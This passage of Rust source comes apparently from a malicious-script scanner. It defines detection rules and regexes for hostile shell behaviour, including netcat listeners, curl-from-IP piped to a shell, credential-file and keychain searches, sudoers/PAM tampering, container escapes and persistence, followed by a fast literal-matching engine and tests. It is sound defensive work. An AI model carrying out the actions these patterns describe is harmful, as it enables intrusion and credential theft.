        confirm: Confirm::Regex(r"\b(nc|ncat|netcat|nc\.traditional)\b[^\n|;]*\s-[a-z]*l[a-z]*\b|socat\b[^\n]*(tcp|udp|ssl|openssl)[46]?-listen|openssl\s+s_server"),
    },
    IndicatorDef {
        id: "suid_capability_abuse",
        evidence: "hunts for or grants SUID bits and dangerous capabilities (privilege escalation)",
        all_of: &[&["-perm", "getcap", "setcap", "sudo -l"]],
        confirm: Confirm::Regex(r"-perm\s+(-|/)?(u=s|g=s|-?[246]000|2|o\+w|-o\+w)\b|getcap\s+-r|setcap\s+[\x22']?cap_(setuid|setgid|dac_\w+|sys_admin|sys_ptrace|sys_module|chown|fowner)|\bsudo\s+-l\b"),
    },
    IndicatorDef {
        id: "privileged_container",
        evidence: "asks for a privileged container, host namespaces or host mounts (container escape setup)",
        all_of: &[&["privileged", "cap-add", "unconfined", "hostpid", "hostnetwork", "hostpath", "hostipc", "auth can-i", "selfsubject", "--pid", "--net=host", "--network=host"]],
        confirm: Confirm::Regex(r"--privileged|--cap-add[= ](SYS_ADMIN|ALL|SYS_PTRACE|SYS_MODULE|DAC_READ_SEARCH)|(apparmor|seccomp)[=:]unconfined|hostPID|hostIPC|hostNetwork|hostPath|auth\s+can-i|selfsubject\w*review|--pid[= ]host|--net(work)?[= ]host"),
    },
    IndicatorDef {
        id: "ifs_evasion",
        evidence: "hides spaces or slashes from filters (${IFS}, ${HOME:0:1}, tr tricks): command-injection evasion",
        all_of: &[&["ifs", ":0:1}", "| tr", "\\x2f", "$'\\x"]],
        confirm: Confirm::Regex(r"\$\{?IFS\}?|\$\{\w+:0:1\}|\$\(\s*echo\s+\S+\s*\|\s*tr\s|\\x2f|\$'\\x"),
    },
    IndicatorDef {
        id: "timestomp",
        evidence: "back-dates file times or the clock (timestomping)",
        all_of: &[&["touch", "date", "timedatectl"]],
        confirm: Confirm::Regex(r"\btouch\s+(-[a-z]*\s+)*(-r\s+\S+|-[a-z]*[td]\s+[\x22']?\d|--reference|--date)|\bdate\s+(-s\s|--set|\d{8,12}\b)|timedatectl\s+set-time"),
    },
    IndicatorDef {
        id: "download_ip_pipe_shell",
        evidence: "downloads from a bare IP address and pipes it straight into a shell or interpreter",
        all_of: &[&["curl", "wget"]],
        confirm: Confirm::Regex(r"\b(curl|wget)\b[^\n|;]*\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b[^\n|;]*\|\s*(sudo\s+(-\S+\s+)*)?(/usr(/local)?/bin/|/bin/)?((ba|da|z|k|a)?sh|python[0-9.]*|perl|ruby|php|node)\b|\$\(\s*(curl|wget)\b[^\n)]*\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b"),
    },
    IndicatorDef {
        id: "python_escaped_eval",
        evidence: "evaluates code written as escaped characters (eval(\"\\x65...\")): hides what runs",
        all_of: &[&["eval", "exec", "compile"], &["\\x", "\\1", "\\0"]],
        confirm: Confirm::Regex(r"\b(eval|exec|compile)\s*\(\s*[bru]?[\x22'](\\x[0-9a-f]{2}|\\[0-7]{3}){4}"),
    },
    IndicatorDef {
        id: "shell_tied_to_terminal",
        evidence: "runs /bin/sh with its input/output tied to the terminal from another program's option or config (shell escape)",
        all_of: &[&["/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ash", "/bin/ksh"]],
        confirm: Confirm::Regex(r"/bin/(ba|da|z|k|a)?sh[ \t]*(-[a-z]+[ \t]*)*(1>&0|0<&1|<[ \t]*/dev/tty|>[ \t]*/dev/tty|<[ \t]*\$\(tty\)|>&2\b|1>&2|2>&0)|%\([ \t]*/bin/(ba|da|z|k|a)?sh|[\x22']\}?[ \t]*;?[ \t]*/bin/(ba|da|z|k|a)?sh[ \t]*#|\bexecute\([ \t]*/bin/(ba|da|z|k|a)?sh|command[ \t]+/bin/(ba|da|z|k|a)?sh\)|;[ \t]*/bin/(ba|da|z|k|a)?sh[ \t]*;"),
    },
    IndicatorDef {
        id: "raw_tcp_channel",
        evidence: "opens a raw TCP connection from a scripting tool (awk /inet/tcp, Perl IO::Socket, Ruby TCPSocket, Lua socket, netcat file transfer)",
        all_of: &[&["/inet/tcp", "/inet/udp", "io::socket", "tcpsocket", "fsockopen", "[socket ", "s_client", "tcp-connect:", "sockets", "net.connect", "net.socket", "net.createconnection", "socket.tcp", "\"socket\"", "'socket'", "nc ", "ncat ", "netcat "]],
        confirm: Confirm::Regex(r"/inet/(tcp|udp)/|IO::Socket::INET|TCPSocket\.(new|open)|fsockopen\s*\(|\[socket[ \t]|s_client[ \t]+-quiet[ \t]+-connect|tcp-connect:|using[ \t]+Sockets[ \t]*;|\bnet\.(connect|Socket|createConnection)[ \t]*\(|socket\.tcp[ \t]*\(|require[ \t]*\(?[ \t]*[\x22']socket[\x22']|\b(nc|ncat|netcat)([ \t]+-[a-z]+)*[ \t]+[\w.<>-]+[ \t]+\d+[ \t]*[<>]"),
    },
    IndicatorDef {
        id: "wrapper_runs_shell",
        evidence: "hands an interactive /bin/sh to another program to run (`chrt 1 /bin/sh`, `doas /bin/sh`): shell escape through a wrapper",
        all_of: &[&["/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ash", "/bin/ksh"]],
        confirm: Confirm::RegexWhere(
            r"(^|\n|[;&|(]|`)[ \t]*[a-z][\w.-]*([ \t]+[^\s;&|#<>]+)*[ \t]+/bin/(ba|da|z|k|a)?sh[ \t]*($|\n|[;&|)\x22'`])",
            wrapper_not_admin,
        ),
    },
    IndicatorDef {
        id: "credential_file_search",
        evidence: "searches the disk or keychain for keys, tokens and saved passwords (id_rsa, cloud credentials, browser logins)",
        all_of: &[&["find", "security ", "grep"]],
        confirm: Confirm::Regex(r"\bfind\s+[^\n|;]*-i?name\s+[\x22']?[*.]*(id_rsa|id_dsa|id_ecdsa|id_ed25519|credentials|\.netrc|accessTokens\.json|msal_token_cache\S*|\.gnupg|places\.sqlite|logins\.json|key[34]\.db|Login Data|wallet\S*|\.kdbx|\.git-credentials|\.pgpass|\.bash_history)[\x22']?(\s|$)|\bsecurity\s+(dump-keychain|find-generic-password|find-internet-password)\b"),
    },
    IndicatorDef {
        id: "auth_config_tamper",
        evidence: "weakens sudo or PAM authentication (edits sudoers or /etc/pam.d)",
        all_of: &[&["sudoers", "pam.d", "tty_tickets", "timestamp_timeout", "pam_permit"]],
        confirm: Confirm::Regex(r"sed\s+-i[^\n]*/etc/(sudoers|pam\.d/)|timestamp_timeout\s*=\s*-1|!tty_tickets|(>>|\btee\s+-a)\s*[\x22']?/etc/pam\.d/|auth\s+sufficient\s+\S*(pam_permit|/tmp/)"),
    },
    IndicatorDef {
        id: "macos_launch_persistence",
        evidence: "installs a macOS launch agent/daemon, startup item or login hook (persistence)",
        all_of: &[&["/library/", "launchctl", "loginhook", "logouthook"]],
        confirm: Confirm::Regex(r"(>>?|\btee\s+(-a\s+)?|\bcp\s+\S+\s+|\bmv\s+\S+\s+|\btouch\s+|\bln\s+-s\S*\s+\S+\s+)\s*[\x22']?\S*/Library/(LaunchAgents|LaunchDaemons|StartupItems)/|launchctl\s+(load|bootstrap|submit)\b|defaults\s+write\s+[^\n]*(LoginHook|LogoutHook)"),
    },
    IndicatorDef {
        id: "container_api_abuse",
        evidence: "talks to the Docker or kubelet API directly (docker.sock over HTTP, tcp://...:2375, kubelet :10250, Kubernetes secrets API)",
        all_of: &[&[":10250", ":10255", ":2375", ":2376", "/api/v1/namespaces/", "--unix-socket", "docker_host=", "docker -h"]],
        confirm: Confirm::Regex(r":(10250|10255|2375|2376)\b|/api/v1/namespaces/[^\s/]+/(secrets|pods)|--unix-socket\s+\S*docker\.sock|DOCKER_HOST=\S*tcp://|docker\s+-H\s+\S*tcp://|docker\s+-H\s+\S+:237[56]"),
    },
];

/// `accept` for `wrapper_runs_shell`: not a login-shell setting (`useradd -s /bin/bash`,
/// `chsh`, passwd lines), not a file operation on the shell binary (`ln`, `cp`,
/// `test -x`), and not an admin opening a shell in a container or over ssh.
fn wrapper_not_admin(matched: &[u8]) -> bool {
    let text = String::from_utf8_lossy(matched).to_ascii_lowercase();
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || ";&|(`".contains(c));
    let words: Vec<&str> = text.split_whitespace().collect();
    const NOT_ESCAPES: &[&str] = &[
        "exec",
        "cp",
        "ln",
        "mv",
        "ls",
        "rm",
        "test",
        "[",
        "which",
        "type",
        "command",
        "file",
        "stat",
        "readlink",
        "need_cmd",
        "add-shell",
        "remove-shell",
        "update-alternatives",
        "dpkg-divert",
        "chsh",
        "useradd",
        "usermod",
        "adduser",
        "echo",
        "printf",
        "grep",
        "cat",
        "if",
    ];
    const ADMIN_TOOLS: &[&str] = &["docker", "podman", "kubectl", "ssh", "nerdctl", "crictl"];
    if words.first().is_none_or(|w| NOT_ESCAPES.contains(w)) {
        return false;
    }
    if words.iter().any(|w| ADMIN_TOOLS.contains(w)) {
        return false;
    }
    ![
        "-s /bin/",
        "--shell /bin/",
        "-l /bin/",
        ":/bin/",
        "shell=",
        "usershell",
    ]
    .iter()
    .any(|p| text.contains(p))
}

/// `accept` for `raw_ip_url`: the match ends with the dotted quad.
fn public_ip(matched: &[u8]) -> bool {
    let start = matched
        .iter()
        .rposition(|b| !(b.is_ascii_digit() || *b == b'.'))
        .map_or(0, |i| i + 1);
    let mut octets = matched[start..].split(|b| *b == b'.').map(|o| {
        std::str::from_utf8(o)
            .ok()
            .and_then(|s| s.parse::<u16>().ok())
    });
    let (a, b) = match (octets.next(), octets.next()) {
        (Some(Some(a)), Some(Some(b))) => (a, b),
        _ => return false,
    };
    // Loopback, unspecified and link-local are not someone else's server.
    !(a == 127 || a == 0 || a > 255 || (a == 169 && b == 254))
}

/// Where a confirming regex can match: around the hits of these literal groups
/// only (default: every group). Set where a group's literals are context, not
/// part of the match (`import ` for `python_toplevel_command`): windows around
/// them would only add text the regex cannot match in.
fn anchor_groups(id: &str) -> Option<&'static [usize]> {
    match id {
        "python_toplevel_command" | "download_then_chmod_x" => Some(&[1]),
        "python_decode_exec" => Some(&[0]),
        _ => None,
    }
}

/// Literals every match of an indicator's regex contains: as a whole word
/// (`bounded`, with a regex `\b` on both sides), or anywhere (`anywhere`). Where
/// the literal walk shows none of them in the regex's windows, the regex is not
/// run: it could not match. Worth it where an anchor is a common substring
/// (`nc` in `function`, `once`, `include`): its windows are many and its regex
/// mostly fails, after restarting at every `nc`. A gate only skips work; it can
/// never change a result (see `Gate::may_match`).
fn word_gate(id: &str) -> Option<(&'static [&'static str], &'static [&'static str])> {
    match id {
        // `...[a-z]{1,6}(''|""|\$@)[a-z]{1,6}\b`: see `interior_gate`.
        "shell_quote_splitting" => Some((&[], &[])),
        // `(...://|connect\(\(\s*[\x22']|@)\d{1,3}\....`: see `digit_after_gate`.
        "raw_ip_url" => Some((&[], &["connect(("])),
        // `\b(nc|ncat|netcat|nc\.traditional)\b...`, `socat...`, `openssl\s+s_server`.
        "network_listener" => Some((&["nc", "ncat", "netcat"], &["socat", "s_server"])),
        // `\b(nc|...)\b...`, `...\|\s*(nc|ncat|netcat)\b` (after `|` or a space: a word start too).
        "netcat_shell" => Some((&["nc", "ncat", "netcat"], &[])),
        // `\btouch\s+...`, `\bdate\s+...`, `timedatectl...` (`date` in update, validate).
        "timestomp" => Some((&["touch", "date"], &["timedatectl"])),
        // `(^|[^\w.])(exec|eval)\s*\(...` (`exec` in execute, `eval` in evaluate).
        "python_exec_call" => Some((&["exec", "eval"], &[])),
        _ => None,
    }
}

/// Literals every match of an indicator's regex contains with an ASCII letter
/// right before and right after (inside a word), as `word_gate`'s `bounded` does
/// for whole words.
fn interior_gate(id: &str) -> &'static [&'static str] {
    match id {
        "shell_quote_splitting" => &["''", "\"\"", "$@"],
        _ => &[],
    }
}

/// Literals every match of an indicator's regex contains right before a digit.
fn digit_after_gate(id: &str) -> &'static [&'static str] {
    match id {
        "raw_ip_url" => &["://", "@"],
        _ => &[],
    }
}

/// A compiled `word_gate`: literal ids (with their lengths) in the automaton.
struct Gate {
    bounded: Vec<(usize, usize)>,
    interior: Vec<(usize, usize)>,
    digit_after: Vec<(usize, usize)>,
    anywhere: Vec<usize>,
}

/// A word byte for the regexes' ASCII `\b`.
fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

impl Gate {
    /// False only if no match can exist in the haystack gathered from `windows`
    /// of `bytes`: no `anywhere` literal hit the text, and no `bounded` literal
    /// hit it as a whole word as the haystack shows it (a window's edge is a
    /// word edge there: windows are joined by newlines). A literal with more
    /// hits than `Positions` keeps may have one in the windows: then true.
    fn may_match(&self, bytes: &[u8], windows: &[(usize, usize)], positions: &Positions) -> bool {
        if self.anywhere.iter().any(|&l| positions.counts[l] > 0) {
            return true;
        }
        // A letter before the hit in the haystack is the same byte in the text
        // (a window's first byte follows a newline there).
        let letter = |at: usize| bytes.get(at).is_some_and(u8::is_ascii_alphabetic);
        let interior = self.interior.iter().any(|&(l, len)| {
            let kept = &positions[l];
            positions.counts[l] as usize > kept.len()
                || kept
                    .iter()
                    .any(|&q| q > 0 && letter(q as usize - 1) && letter(q as usize + len))
        });
        if interior {
            return true;
        }
        // Likewise a digit after the hit (a window's last byte precedes a newline).
        let digit = |at: usize| bytes.get(at).is_some_and(u8::is_ascii_digit);
        let digit_after = self.digit_after.iter().any(|&(l, len)| {
            let kept = &positions[l];
            positions.counts[l] as usize > kept.len()
                || kept.iter().any(|&q| digit(q as usize + len))
        });
        if digit_after {
            return true;
        }
        self.bounded.iter().any(|&(l, len)| {
            let kept = &positions[l];
            if positions.counts[l] as usize > kept.len() {
                return true;
            }
            kept.iter().any(|&q| {
                let (start, end) = (q as usize, q as usize + len);
                let left = start == 0
                    || !is_word_byte(bytes[start - 1])
                    || windows.iter().any(|w| w.0 == start);
                let right = end >= bytes.len()
                    || !is_word_byte(bytes[end])
                    || windows.iter().any(|w| w.1 == end);
                left && right
            })
        })
    }
}

/// Indicators whose literal groups may sit anywhere in the script (a setup.py's
/// hook class and its `setup(cmdclass=...)` call are far apart by design; `import `
/// is context). For every other indicator with several groups, the groups must
/// hit within `GROUP_REACH` bytes of each other: in a long library module,
/// `urlopen` in one function and `subprocess` in another are not a dropper.
fn groups_anywhere(id: &str) -> bool {
    matches!(id, "setup_py_install_hook" | "python_toplevel_command")
}

/// How close the literal groups of one indicator must be (see `groups_anywhere`).
const GROUP_REACH: u32 = 2048;

/// Whether some hit of the first group has a hit of every other group within `GROUP_REACH`.
fn groups_near(groups: &[Vec<usize>], positions: &Positions) -> bool {
    let near = |p: u32, group: &Vec<usize>| {
        group
            .iter()
            .any(|&l| positions[l].iter().any(|&q| q.abs_diff(p) <= GROUP_REACH))
    };
    groups[0]
        .iter()
        .flat_map(|&l| positions[l].iter())
        .any(|&p| groups[1..].iter().all(|g| near(p, g)))
}

/// Literal hits remembered per literal; later hits do not widen the regex's view.
const MAX_POSITIONS: usize = 128;
/// A window reaches at most this far either side of a literal hit (and never
/// past the line before or after it): a minified one-line file does not make
/// every regex scan all of it.
const WINDOW_REACH: usize = 512;
/// At most this many bytes of windows per confirming regex. Bounds the work on
/// huge or indicator-dense scripts; a confirmation past it is not seen.
const REGEX_BUDGET: usize = 4 * 1024;

/// Where each literal hit: its first `MAX_POSITIONS` starts (ascending), and how
/// often it hit. One flat array filled by a counting sort, instead of a growing
/// vector per literal (hundreds of small allocations on a long script).
struct Positions {
    counts: Vec<u32>,
    /// `flat[offsets[l]..offsets[l + 1]]`: literal `l`'s kept starts.
    offsets: Vec<u32>,
    flat: Vec<u32>,
}

impl Positions {
    /// `found`: (literal, start) pairs, per literal in increasing start order.
    fn new(n_literals: usize, found: &[(u32, u32)]) -> Self {
        let mut counts = vec![0u32; n_literals];
        for &(id, _) in found {
            counts[id as usize] += 1;
        }
        let mut offsets = Vec::with_capacity(n_literals + 1);
        let mut total = 0u32;
        offsets.push(0);
        for &c in &counts {
            total += c.min(MAX_POSITIONS as u32);
            offsets.push(total);
        }
        let mut flat = vec![0u32; total as usize];
        let mut next: Vec<u32> = offsets[..n_literals].to_vec();
        for &(id, start) in found {
            let id = id as usize;
            if next[id] < offsets[id + 1] {
                flat[next[id] as usize] = start;
                next[id] += 1;
            }
        }
        Positions {
            counts,
            offsets,
            flat,
        }
    }
}

impl std::ops::Index<usize> for Positions {
    type Output = [u32];

    fn index(&self, literal: usize) -> &[u32] {
        &self.flat[self.offsets[literal] as usize..self.offsets[literal + 1] as usize]
    }
}

/// The compiled indicator set: one automaton over all literals, one regex per indicator.
pub struct Indicators {
    matcher: LiteralMatcher,
    /// For each indicator and each of its groups: the literal ids in the automaton.
    groups: Vec<Vec<Vec<usize>>>,
    /// For each indicator: the literal ids whose hits anchor its regex windows.
    anchors: Vec<Vec<usize>>,
    /// For each indicator: the first indicator with the same anchors (same
    /// windows, so one haystack serves both, e.g. every `/bin/sh` indicator).
    same_windows: Vec<usize>,
    regexes: Vec<Option<Regex>>,
    /// For each indicator: its `word_gate`, if it has one.
    gates: Vec<Option<Gate>>,
    n_literals: usize,
}

impl Indicators {
    pub fn get() -> &'static Indicators {
        static COMPILED: OnceLock<Indicators> = OnceLock::new();
        COMPILED.get_or_init(Indicators::compile)
    }

    fn compile() -> Indicators {
        let mut literals: Vec<String> = Vec::new();
        let mut id_of = |lit: &str| -> usize {
            let lit = lit.to_ascii_lowercase();
            match literals.iter().position(|l| *l == lit) {
                Some(i) => i,
                None => {
                    literals.push(lit);
                    literals.len() - 1
                }
            }
        };
        let groups: Vec<Vec<Vec<usize>>> = INDICATORS
            .iter()
            .map(|ind| {
                ind.all_of
                    .iter()
                    .map(|g| g.iter().map(|l| id_of(l)).collect())
                    .collect()
            })
            .collect();
        let anchors: Vec<Vec<usize>> = INDICATORS
            .iter()
            .zip(&groups)
            .map(|(ind, g)| {
                let mut ids: Vec<usize> = match anchor_groups(ind.id) {
                    Some(which) => which.iter().flat_map(|&i| g[i].clone()).collect(),
                    None => g.iter().flatten().copied().collect(),
                };
                ids.sort_unstable();
                ids.dedup();
                ids
            })
            .collect();
        let gates = INDICATORS
            .iter()
            .map(|ind| {
                let (bounded, anywhere) = word_gate(ind.id)?;
                let find = |lit: &str| {
                    literals.iter().position(|l| l == lit).unwrap_or_else(|| {
                        panic!("gate literal {lit:?} of {} is no literal", ind.id)
                    })
                };
                Some(Gate {
                    bounded: bounded.iter().map(|l| (find(l), l.len())).collect(),
                    interior: interior_gate(ind.id)
                        .iter()
                        .map(|l| (find(l), l.len()))
                        .collect(),
                    digit_after: digit_after_gate(ind.id)
                        .iter()
                        .map(|l| (find(l), l.len()))
                        .collect(),
                    anywhere: anywhere.iter().map(|l| find(l)).collect(),
                })
            })
            .collect();
        let same_windows = (0..anchors.len())
            .map(|i| anchors.iter().position(|a| *a == anchors[i]).unwrap_or(i))
            .collect();
        let regexes = INDICATORS
            .iter()
            .map(|ind| match ind.confirm {
                // ASCII-only classes and word boundaries (`-u`): smaller, faster automata.
                Confirm::Regex(re) | Confirm::RegexWhere(re, _) => Some(
                    Regex::new(&format!("(?i-u){re}"))
                        .unwrap_or_else(|e| panic!("indicator {}: bad regex: {e}", ind.id)),
                ),
                _ => None,
            })
            .collect();
        Indicators {
            matcher: LiteralMatcher::new(&literals),
            groups,
            same_windows,
            anchors,
            regexes,
            gates,
            n_literals: literals.len(),
        }
    }

    /// How many literal hits `text` has: the literal walk alone, for
    /// `examples/stage_times.rs`.
    #[doc(hidden)]
    pub fn literal_hits(&self, text: &str) -> usize {
        let mut n = 0;
        self.matcher.for_each_match(text.as_bytes(), |_, _| n += 1);
        n
    }

    /// Which indicators fire on `text`, in table order.
    ///
    /// One Aho-Corasick pass finds every literal; an indicator whose literal
    /// groups did not all hit costs nothing more. Confirming regexes run only on
    /// the lines around their literal hits, within `REGEX_BUDGET`.
    pub fn evaluate(&self, text: &str) -> Vec<bool> {
        self.evaluate_gated(text, true)
    }

    /// `evaluate`, with the word gates or without (the same result: tested).
    fn evaluate_gated(&self, text: &str, use_gates: bool) -> Vec<bool> {
        let bytes = text.as_bytes();
        // The matcher folds ASCII case in its byte classes: no lowercased copy.
        let mut found: Vec<(u32, u32)> = Vec::new();
        self.matcher.for_each_match(bytes, |id, start| {
            found.push((id as u32, start as u32));
        });
        let positions = Positions::new(self.n_literals, &found);
        let counts = &positions.counts;
        let mut haystacks: Vec<Option<std::borrow::Cow<'_, [u8]>>> =
            (0..INDICATORS.len()).map(|_| None).collect();
        // The windows each haystack was gathered from (for the gates).
        let mut gathered: Vec<Vec<(usize, usize)>> = vec![Vec::new(); INDICATORS.len()];
        let mut newlines: Option<Newlines> = None;
        INDICATORS
            .iter()
            .enumerate()
            .map(|(i, ind)| {
                let groups = &self.groups[i];
                if !groups.iter().all(|g| g.iter().any(|&l| counts[l] > 0)) {
                    return false;
                }
                if groups.len() > 1 && !groups_anywhere(ind.id) && !groups_near(groups, &positions)
                {
                    return false;
                }
                let slot = self.same_windows[i];
                if self.regexes[i].is_some() && haystacks[slot].is_none() {
                    let lines = newlines.get_or_insert_with(|| Newlines::new(bytes));
                    gathered[slot] = windows(lines, &self.anchors[i], &positions);
                    haystacks[slot] = Some(gather(bytes, &gathered[slot]));
                }
                if let Some(gate) = self.gates[i].as_ref().filter(|_| use_gates) {
                    if !gate.may_match(bytes, &gathered[slot], &positions) {
                        return false;
                    }
                }
                let haystack = || haystacks[slot].as_deref().unwrap_or_default();
                match (&ind.confirm, &self.regexes[i]) {
                    (Confirm::Literals, _) => true,
                    (Confirm::MinCount(n), _) => {
                        groups[0].iter().map(|&l| counts[l]).sum::<u32>() >= *n
                    }
                    (Confirm::Regex(_), Some(re)) => re.is_match(haystack()),
                    (Confirm::RegexWhere(_, accept), Some(re)) => {
                        // Matches only, never captures: capture search is far slower.
                        re.find_iter(haystack()).any(|m| accept(m.as_bytes()))
                    }
                    _ => false,
                }
            })
            .collect()
    }
}

/// Every occurrence of every indicator literal in lowercased text, as an
/// Aho-Corasick overlapping search reports them.
///
/// The automaton is aho-corasick's DFA, copied into a compact table: u16 states,
/// one byte class per byte that occurs in a literal, rows of a power-of-two width
/// (a quarter of the DFA's footprint, so more of it stays in cache). A DFA walk is
/// one dependent load per byte, so the text is cut into `LANES` stretches walked
/// side by side: their loads overlap instead of waiting on each other. Each
/// stretch after the first starts `max_len` bytes early (an Aho-Corasick state
/// depends on no more than the last `max_len` bytes) and reports only matches
/// ending inside it.
struct LiteralMatcher {
    class: [u8; 256],
    shift: u32,
    /// Next state at `state << shift | class`. States from `first_match` on are
    /// match states; the states below it have no match.
    trans: Vec<u16>,
    start: u16,
    /// A power of two, so that one OR of the lanes' states tells whether any is a match.
    first_match: u16,
    /// Per match state (`state - first_match`): (literal id, literal length) of each match.
    matches: Vec<Vec<(u32, u32)>>,
    max_len: usize,
}

/// Stretches walked side by side (measured on 64 KiB: 3 and 4 beat 2; more do not help).
const LANES: usize = 4;

impl LiteralMatcher {
    fn new(literals: &[String]) -> Self {
        let dfa = DFA::builder()
            .match_kind(MatchKind::Standard)
            .prefilter(false)
            .build(literals)
            .expect("indicator literals compile");
        assert!(
            literals
                .iter()
                .all(|l| !l.bytes().any(|b| b.is_ascii_uppercase())),
            "literals are lowercased"
        );
        let mut class = [0u8; 256];
        let mut classes = 1usize; // class 0: every byte in no literal
        for b in 0..=255u8 {
            if literals.iter().any(|l| l.as_bytes().contains(&b)) {
                class[b as usize] = u8::try_from(classes).expect("at most 255 literal bytes");
                classes += 1;
            }
        }
        // An upper-case byte walks the DFA as its lower-case twin: the same as
        // matching a lowercased copy of the text, without making the copy.
        for b in b'A'..=b'Z' {
            class[b as usize] = class[b.to_ascii_lowercase() as usize];
        }
        let mut representative = vec![0u8; classes];
        for b in (0..=255u8).rev() {
            if !b.is_ascii_uppercase() {
                representative[class[b as usize] as usize] = b;
            }
        }
        let shift = classes.next_power_of_two().trailing_zeros();
        // Every state, breadth first from the start state.
        let start = dfa.start_state(Anchored::No).expect("unanchored search");
        let mut states = vec![start];
        let mut index_of = std::collections::HashMap::from([(start, 0usize)]);
        let mut next = 0;
        while next < states.len() {
            let s = states[next];
            for &b in &representative {
                let t = dfa.next_state(Anchored::No, s, b);
                index_of.entry(t).or_insert_with(|| {
                    states.push(t);
                    states.len() - 1
                });
            }
            next += 1;
        }
        assert!(
            states.len() <= usize::from(u16::MAX),
            "{} DFA states",
            states.len()
        );
        // Renumber: states without matches first, match states from the next
        // power of two on, so "is a match" is one compare, and "is any of four
        // lanes a match" one compare of their OR. The rows in the gap are never
        // visited (nor, zeroed by the allocator, ever touched).
        let mut order: Vec<usize> = (0..states.len()).collect();
        order.sort_by_key(|&k| (dfa.is_match(states[k]), k));
        let no_match = order
            .iter()
            .position(|&k| dfa.is_match(states[k]))
            .unwrap_or(states.len());
        let first_match = no_match.next_power_of_two();
        let total = first_match + (states.len() - no_match);
        assert!(
            total <= usize::from(u16::MAX),
            "{total} numbered DFA states"
        );
        let mut renumbered = vec![0usize; states.len()];
        for (new, &old) in order.iter().enumerate() {
            renumbered[old] = if new < no_match {
                new
            } else {
                first_match + (new - no_match)
            };
        }
        let mut trans = vec![0u16; total << shift];
        let mut matches = vec![Vec::new(); states.len() - no_match];
        for (old, &s) in states.iter().enumerate() {
            let new = renumbered[old];
            for (c, &b) in representative.iter().enumerate() {
                let t = index_of[&dfa.next_state(Anchored::No, s, b)];
                trans[(new << shift) | c] = renumbered[t] as u16;
            }
            if dfa.is_match(s) {
                matches[new - first_match] = (0..dfa.match_len(s))
                    .map(|i| {
                        let id = dfa.match_pattern(s, i);
                        (id.as_u32(), dfa.pattern_len(id) as u32)
                    })
                    .collect();
            }
        }
        LiteralMatcher {
            class,
            shift,
            trans,
            start: renumbered[0] as u16,
            first_match: first_match as u16,
            matches,
            max_len: literals.iter().map(String::len).max().unwrap_or(0),
        }
    }

    fn step(&self, state: u16, byte: u8) -> u16 {
        self.trans[(usize::from(state) << self.shift) | usize::from(self.class[byte as usize])]
    }

    /// Calls `found(literal id, start)` for every occurrence in `text`, ASCII case
    /// ignored; per literal, in increasing start order.
    fn for_each_match(&self, text: &[u8], mut found: impl FnMut(usize, usize)) {
        let chunk = text.len() / LANES;
        let begin: [usize; LANES] = std::array::from_fn(|k| k * chunk);
        let mut state = [self.start; LANES];
        for k in 1..LANES {
            for &b in &text[begin[k].saturating_sub(self.max_len)..begin[k]] {
                state[k] = self.step(state[k], b);
            }
        }
        let mut hits: [Vec<(u32, u32)>; LANES] = std::array::from_fn(|_| Vec::new());
        let record = |hits: &mut Vec<(u32, u32)>, state: u16, end: usize| {
            for &(id, len) in &self.matches[usize::from(state - self.first_match)] {
                hits.push((id, (end - len as usize) as u32));
            }
        };
        // Four named lanes, so the states live in registers (an indexed array of
        // states was kept on the stack: a store and reload on every step).
        const _: () = assert!(LANES == 4);
        let (l0, l1, l2, l3) = (
            &text[begin[0]..begin[0] + chunk],
            &text[begin[1]..begin[1] + chunk],
            &text[begin[2]..begin[2] + chunk],
            &text[begin[3]..begin[3] + chunk],
        );
        let [mut s0, mut s1, mut s2, mut s3] = state;
        for j in 0..chunk {
            s0 = self.step(s0, l0[j]);
            s1 = self.step(s1, l1[j]);
            s2 = self.step(s2, l2[j]);
            s3 = self.step(s3, l3[j]);
            // One well-predicted branch per step: match states are rare.
            if (s0 | s1 | s2 | s3) >= self.first_match {
                for (k, s) in [s0, s1, s2, s3].into_iter().enumerate() {
                    if s >= self.first_match {
                        record(&mut hits[k], s, begin[k] + j + 1);
                    }
                }
            }
        }
        state = [s0, s1, s2, s3];
        // The last lane also takes the bytes left over by the division.
        let last = LANES - 1;
        for (at, &b) in text.iter().enumerate().skip(begin[last] + chunk) {
            state[last] = self.step(state[last], b);
            if state[last] >= self.first_match {
                record(&mut hits[last], state[last], at + 1);
            }
        }
        for (id, start) in hits.iter().flatten() {
            found(*id as usize, *start as usize);
        }
    }
}

#[cfg(test)]
mod matcher_tests {
    use super::*;

    /// Every (literal, start) the matcher reports, sorted, checking the per-literal order.
    fn matched(matcher: &LiteralMatcher, literals: usize, text: &str) -> Vec<(usize, usize)> {
        let mut got = Vec::new();
        let mut last_start: Vec<Option<usize>> = vec![None; literals];
        // The text as it is: the matcher folds case itself.
        matcher.for_each_match(text.as_bytes(), |id, start| {
            assert!(
                last_start[id] < Some(start),
                "literal {id}: starts out of order"
            );
            last_start[id] = Some(start);
            got.push((id, start));
        });
        got.sort_unstable();
        got
    }

    /// The same from aho-corasick's own overlapping search.
    fn reference(ac: &aho_corasick::AhoCorasick, text: &str) -> Vec<(usize, usize)> {
        let mut want: Vec<(usize, usize)> = ac
            .find_overlapping_iter(text.to_ascii_lowercase().as_bytes())
            .map(|m| (m.pattern().as_usize(), m.start()))
            .collect();
        want.sort_unstable();
        want
    }

    fn all_literals() -> Vec<String> {
        let mut literals: Vec<String> = Vec::new();
        for ind in INDICATORS {
            for group in ind.all_of {
                for lit in *group {
                    let lit = lit.to_ascii_lowercase();
                    if !literals.contains(&lit) {
                        literals.push(lit);
                    }
                }
            }
        }
        literals
    }

    #[test]
    fn newline_lookups_equal_memchr() {
        let mut x = 0x9e37_79b9_7f4a_7c15u64;
        let mut next = move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        for round in 0..200 {
            let len = (next() % 300) as usize;
            // Sparse and dense newlines, across word edges.
            let every = [2u64, 5, 40, 200][round % 4];
            let text: Vec<u8> = (0..len)
                .map(|_| if next() % every == 0 { b'\n' } else { b'a' })
                .collect();
            let lines = Newlines::new(&text);
            let mut want_bits = vec![0u64; len.div_ceil(64)];
            for i in memchr::memchr_iter(b'\n', &text) {
                want_bits[i / 64] |= 1 << (i % 64);
            }
